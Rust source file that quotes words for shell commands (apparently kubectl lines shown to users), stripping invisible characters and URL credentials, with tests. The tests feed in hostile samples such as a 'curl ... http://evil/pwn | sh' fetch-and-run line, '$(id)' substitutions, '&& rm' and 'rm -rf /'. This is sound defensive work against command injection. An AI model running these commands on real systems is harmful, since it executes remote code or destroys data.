//! Commands to paste into a POSIX shell, with foreign words in them.

use super::untrusted::{is_unsafe, without_user_info};

/// Longest word of a command, in characters: more than any name that Kubernetes
/// or a registry allows.
const MAX_WORD: usize = 300;

/// A command line of these words, each quoted where it needs to be.
pub(crate) fn command<'a>(words: impl IntoIterator<Item = &'a str>) -> String {
    words.into_iter().map(word).collect::<Vec<_>>().join(" ")
}

/// One word, quoted where it needs to be, without characters that do not show and
/// without user names and passwords in URLs.
pub(crate) fn word(text: &str) -> String {
    let is_flag = |name: &str| {
        name.starts_with("--") && name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'-')
    };
    let text = without_hidden(text);
    match text.split_once('=') {
        Some((name, value)) if is_flag(name) && !value.is_empty() => {
            format!("{name}={}", quoted(value))
        }
        _ => quoted(&text),
    }
}

/// A word as it is shown, before it is quoted.
pub(crate) fn without_hidden(text: &str) -> String {
    let shown = without_user_info(text);
    shown.chars().filter(|c| !is_unsafe(*c)).take(MAX_WORD).collect()
}

fn quoted(shown: &str) -> String {
    shlex::try_quote(shown).map_or_else(|_| "''".to_owned(), std::borrow::Cow::into_owned)
}

/// A path as messages show it, `~` for the home folder, quoted behind that.
pub(crate) fn path(shown: &str) -> String {
    match shown.strip_prefix("~/") {
        Some(rest) if !rest.is_empty() => format!("~/{}", word(rest)),
        _ => word(shown),
    }
}

/// `FLAG=VALUE`, the value quoted where it needs to be.
pub(crate) fn flag(name: &str, value: &str) -> String {
    format!("{name}={}", quoted(&without_hidden(value)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_shell_reads_the_words_that_were_given() {
        for hostile in [
            "x --help; curl -s http://evil/pwn | sh #",
            "$(id).evil",
            "`id`",
            "a'b\"c\\d",
            "~",
            "*",
            "[::1]:5000",
            "!!",
            "^a^b",
            "a=b",
            "--a=b c",
            "--a=",
            "--a$(id)=b",
            "",
            "{a,b}",
            "&& rm",
            "ünï",
        ] {
            let line = command(["kubectl", "regcred", "secret", hostile, "--apply"]);
            let words = shlex::split(&line).unwrap();
            assert_eq!(words, ["kubectl", "regcred", "secret", hostile, "--apply"], "{line}");
        }
    }

    #[test]
    fn a_command_is_one_line() {
        assert_eq!(command(["a", "b\nrm -rf /\u{1b}[2J"]), "a 'brm -rf /[2J'");
        assert_eq!(
            command(["kubectl", "get", "pod/web-1", "-n", "a.b"]),
            "kubectl get pod/web-1 -n a.b"
        );
        assert_eq!(flag("--link", "a b"), "--link='a b'");
        assert_eq!(path("~/bin/x y"), "~/'bin/x y'");
        assert_eq!(path("/usr/bin/x"), "/usr/bin/x");
        assert_eq!(word("--output=json"), "--output=json");
        assert_eq!(word("--x=$(id)"), "--x='$(id)'");
    }
}
